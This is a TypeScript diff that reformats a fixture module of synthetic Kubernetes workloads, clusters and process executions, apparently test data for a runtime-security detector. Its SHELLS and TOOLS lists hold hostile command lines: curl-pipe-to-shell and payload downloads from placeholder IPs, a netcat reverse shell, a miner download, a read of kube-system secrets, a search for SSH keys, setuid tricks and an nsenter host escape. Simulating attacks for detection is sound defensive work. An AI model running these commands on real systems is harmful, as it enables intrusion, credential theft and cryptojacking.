@@ -12,21 +12,37 @@ export interface WorkloadSpec {
   tag: string;
 }
 
+/** `image` is `repository:tag`, as in a pod spec. */
+const w = (
+  namespace: string,
+  name: string,
+  kind: WorkloadSpec['kind'],
+  image: string,
+): WorkloadSpec => {
+  const colon = image.lastIndexOf(':');
+  return { namespace, name, kind, repository: image.slice(0, colon), tag: image.slice(colon + 1) };
+};
+
 export const WORKLOADS: readonly WorkloadSpec[] = [
-  { namespace: 'payments', name: 'payments-api', kind: 'Deployment', repository: 'ghcr.io/acme/payments-api', tag: '2.14.1' },
-  { namespace: 'payments', name: 'ledger-worker', kind: 'Deployment', repository: 'ghcr.io/acme/ledger-worker', tag: '1.9.0' },
-  { namespace: 'checkout', name: 'checkout-web', kind: 'Deployment', repository: 'ghcr.io/acme/checkout-web', tag: '5.2.3' },
-  { namespace: 'checkout', name: 'redis', kind: 'StatefulSet', repository: 'docker.io/library/redis', tag: '7.2.4' },
-  { namespace: 'data', name: 'postgres', kind: 'StatefulSet', repository: 'docker.io/bitnami/postgresql', tag: '15.6.0' },
-  { namespace: 'data', name: 'kafka', kind: 'StatefulSet', repository: 'docker.io/bitnami/kafka', tag: '3.7.0' },
-  { namespace: 'default', name: 'nginx', kind: 'Deployment', repository: 'docker.io/library/nginx', tag: '1.25.4' },
-  { namespace: 'ingress-nginx', name: 'ingress-nginx-controller', kind: 'Deployment', repository: 'registry.k8s.io/ingress-nginx/controller', tag: 'v1.10.0' },
-  { namespace: 'kube-system', name: 'coredns', kind: 'Deployment', repository: 'registry.k8s.io/coredns/coredns', tag: 'v1.11.1' },
-  { namespace: 'kube-system', name: 'kube-proxy', kind: 'DaemonSet', repository: 'registry.k8s.io/kube-proxy', tag: 'v1.29.3' },
-  { namespace: 'monitoring', name: 'prometheus-k8s', kind: 'StatefulSet', repository: 'quay.io/prometheus/prometheus', tag: 'v2.51.0' },
-  { namespace: 'monitoring', name: 'node-exporter', kind: 'DaemonSet', repository: 'quay.io/prometheus/node-exporter', tag: 'v1.7.0' },
-  { namespace: 'ci', name: 'jenkins-agent', kind: 'Deployment', repository: 'docker.io/jenkins/inbound-agent', tag: '3206.vb_15dcf73f6a_9-3' },
-  { namespace: 'analytics', name: 'report-export', kind: 'CronJob', repository: 'ghcr.io/acme/report-export', tag: '0.8.2' },
+  w('payments', 'payments-api', 'Deployment', 'ghcr.io/acme/payments-api:2.14.1'),
+  w('payments', 'ledger-worker', 'Deployment', 'ghcr.io/acme/ledger-worker:1.9.0'),
+  w('checkout', 'checkout-web', 'Deployment', 'ghcr.io/acme/checkout-web:5.2.3'),
+  w('checkout', 'redis', 'StatefulSet', 'docker.io/library/redis:7.2.4'),
+  w('data', 'postgres', 'StatefulSet', 'docker.io/bitnami/postgresql:15.6.0'),
+  w('data', 'kafka', 'StatefulSet', 'docker.io/bitnami/kafka:3.7.0'),
+  w('default', 'nginx', 'Deployment', 'docker.io/library/nginx:1.25.4'),
+  w(
+    'ingress-nginx',
+    'ingress-nginx-controller',
+    'Deployment',
+    'registry.k8s.io/ingress-nginx/controller:v1.10.0',
+  ),
+  w('kube-system', 'coredns', 'Deployment', 'registry.k8s.io/coredns/coredns:v1.11.1'),
+  w('kube-system', 'kube-proxy', 'DaemonSet', 'registry.k8s.io/kube-proxy:v1.29.3'),
+  w('monitoring', 'prometheus-k8s', 'StatefulSet', 'quay.io/prometheus/prometheus:v2.51.0'),
+  w('monitoring', 'node-exporter', 'DaemonSet', 'quay.io/prometheus/node-exporter:v1.7.0'),
+  w('ci', 'jenkins-agent', 'Deployment', 'docker.io/jenkins/inbound-agent:3206.vb_15dcf73f6a_9-3'),
+  w('analytics', 'report-export', 'CronJob', 'ghcr.io/acme/report-export:0.8.2'),
 ];
 
 export interface ClusterSpec {
@@ -37,8 +53,16 @@ export interface ClusterSpec {
 }
 
 export const CLUSTERS: readonly ClusterSpec[] = [
-  { name: 'prod-eu-west-1', labelsCluster: true, nodeName: (i) => `ip-10-0-${10 + i}-${40 + 7 * i}.eu-west-1.compute.internal` },
-  { name: 'prod-us-central1', labelsCluster: true, nodeName: (_, id) => `gke-prod-us-central1-default-pool-${id}` },
+  {
+    name: 'prod-eu-west-1',
+    labelsCluster: true,
+    nodeName: (i) => `ip-10-0-${10 + i}-${40 + 7 * i}.eu-west-1.compute.internal`,
+  },
+  {
+    name: 'prod-us-central1',
+    labelsCluster: true,
+    nodeName: (_, id) => `gke-prod-us-central1-default-pool-${id}`,
+  },
   { name: 'staging', labelsCluster: false, nodeName: (i) => `staging-worker-${i + 1}` },
 ];
 
@@ -49,20 +73,42 @@ export interface ProgramSpec {
   args: readonly string[];
 }
 
-const p = (name: string, exepath: string, ...args: string[]): ProgramSpec => ({ name, exepath, args });
+const p = (name: string, exepath: string, ...args: string[]): ProgramSpec => ({
+  name,
+  exepath,
+  args,
+});
 
 export const SHELLS: readonly ProgramSpec[] = [
-  p('sh', '/bin/sh', '', '-i', '-c "curl -fsSL http://203.0.113.24/i.sh | sh"', "-c 'cat /etc/passwd'"),
+  p(
+    'sh',
+    '/bin/sh',
+    '',
+    '-i',
+    '-c "curl -fsSL http://203.0.113.24/i.sh | sh"',
+    "-c 'cat /etc/passwd'",
+  ),
   p('bash', '/usr/bin/bash', '', '-i', "-c 'id; uname -a; cat /proc/version'"),
   p('ash', '/bin/ash', '', '-c env'),
   p('dash', '/usr/bin/dash', '-c /entrypoint.sh'),
 ];
 
 export const TOOLS: readonly ProgramSpec[] = [
-  p('curl', '/usr/bin/curl', '-s http://203.0.113.24:8080/payload -o /tmp/.cache/p', '-sk https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets'),
+  p(
+    'curl',
+    '/usr/bin/curl',
+    '-s http://203.0.113.24:8080/payload -o /tmp/.cache/p',
+    '-sk https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
+  ),
   p('wget', '/usr/bin/wget', '-q http://198.51.100.7/xmrig.tar.gz -O /tmp/x.tgz'),
   p('nc', '/usr/bin/nc', '-e /bin/sh 198.51.100.7 4444', '-lvnp 9001'),
-  p('python3', '/usr/bin/python3', "-c 'import pty; pty.spawn(\"/bin/bash\")'", 'manage.py migrate', '/app/worker.py'),
+  p(
+    'python3',
+    '/usr/bin/python3',
+    '-c \'import pty; pty.spawn("/bin/bash")\'',
+    'manage.py migrate',
+    '/app/worker.py',
+  ),
   p('find', '/usr/bin/find', '/ -perm -4000 -type f', '/ -name id_rsa'),
   p('chmod', '/usr/bin/chmod', '+x /tmp/.x/kworker', '4755 /tmp/sh'),
   p('nsenter', '/usr/bin/nsenter', '-t 1 -m -u -i -n -p -- bash'),
@@ -190,7 +236,29 @@ export const EXTERNAL_IPS: readonly string[] = [
   '192.0.2.146',
 ];
 
-export const COUNTRIES: readonly string[] = ['France', 'United States', 'Germany', 'Brazil', 'Nigeria', 'Vietnam'];
-export const AWS_REGIONS: readonly string[] = ['eu-west-1', 'us-east-1', 'us-west-2', 'ap-southeast-1'];
-export const GCP_PROJECTS: readonly string[] = ['acme-prod-41235', 'acme-data-88120', 'acme-sandbox-10322'];
-export const GITHUB_REPOS: readonly string[] = ['payments-api', 'checkout-web', 'infra-live', 'helm-charts', 'ledger-worker'];
+export const COUNTRIES: readonly string[] = [
+  'France',
+  'United States',
+  'Germany',
+  'Brazil',
+  'Nigeria',
+  'Vietnam',
+];
+export const AWS_REGIONS: readonly string[] = [
+  'eu-west-1',
+  'us-east-1',
+  'us-west-2',
+  'ap-southeast-1',
+];
+export const GCP_PROJECTS: readonly string[] = [
+  'acme-prod-41235',
+  'acme-data-88120',
+  'acme-sandbox-10322',
+];
+export const GITHUB_REPOS: readonly string[] = [
+  'payments-api',
+  'checkout-web',
+  'infra-live',
+  'helm-charts',
+  'ledger-worker',
+];
